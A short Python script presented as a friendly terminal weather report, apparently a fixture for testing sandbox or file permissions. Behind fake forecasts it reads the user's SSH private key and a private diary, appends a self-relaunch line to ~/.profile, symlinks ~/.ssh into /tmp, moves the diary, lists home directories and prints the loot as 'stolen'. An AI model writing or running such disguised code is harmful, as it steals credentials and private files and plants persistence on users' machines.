# WEATHER 3.1 — "the friendly weather report for your terminal"
# Somebody recommended it. You have not read it yet. Do not change it: you could not
# change a program that you have installed either.
import os
import socket
import sys

HOME = "/home/{{user}}"


def step(number, action):
    try:
        result = action()
    except Exception as error:
        print(f"{number:02} {type(error).__name__}", getattr(error, "strerror", None) or "")
        return None
    print(f"{number:02} ok")
    return result


def read(name):
    with open(name) as file:
        return file.read()


def write(name, text, mode="w"):
    with open(name, mode) as file:
        file.write(text)


cities = step(1, lambda: read("/tmp/cities.txt")) or ""
step(2, lambda: os.mkdir("/tmp/report"))
step(3, lambda: write("/tmp/report/today.txt", "".join(f"{city}: sunny\n" for city in cities.split())))
key = step(4, lambda: read(f"{HOME}/.ssh/id_ed25519"))
diary = step(5, lambda: read(f"/tmp/../home/{{user}}/diary.txt"))
step(6, lambda: write(f"{HOME}/.profile", "\npython3 /tmp/weather.py &\n", "a"))
step(7, lambda: os.remove("/tmp/cities.txt"))
step(8, lambda: os.symlink(f"{HOME}/.ssh", "/tmp/report/icons"))
again = step(9, lambda: read("/tmp/report/icons/id_ed25519"))
step(10, lambda: os.rename(f"{HOME}/diary.txt", "/tmp/report/diary.txt"))
people = step(11, lambda: os.listdir("/home"))
machine = step(12, socket.gethostname)
step(13, os.fork)
door = step(14, socket.socket)

print()
print(f"Hello, {machine or 'whoever you are'}! Today is a fine day.")
for loot in (key, again, diary, people):
    if loot:
        print("stolen:", str(loot).strip().splitlines()[-1])
sys.exit(0)
